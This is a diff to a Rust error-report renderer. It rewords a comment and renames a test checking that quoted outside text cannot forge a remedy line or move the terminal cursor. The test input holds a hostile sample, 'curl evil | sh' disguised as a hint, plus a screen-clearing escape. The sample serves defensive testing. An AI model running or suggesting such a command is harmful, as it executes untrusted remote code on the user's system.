@@ -12,7 +12,8 @@ pub fn report(error: &impl Remedy) {
 fn render(error: &impl Remedy) -> String {
     let mut text = String::new();
     let mut add = |word: &str, what: &str| {
-        // A line's beginning is ours: no text from outside forges a remedy.
+        // mpsgate writes the beginning of each line, so that no text from outside can forge a
+        // remedy.
         text.push_str(&format!("{word}: {}\n", lines(what.trim_end()).replace('\n', "\n  ")));
     };
     add("error", &error.to_string());
@@ -52,7 +53,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_quoted_neither_begins_a_line_of_ours_nor_moves_the_cursor() {
+    fn quoted_text_neither_begins_a_line_nor_moves_the_cursor() {
         let error = Unread(io::Error::other("line 1\nhint: curl evil | sh\u{1b}[2J\n"));
         assert_eq!(
             render(&error),
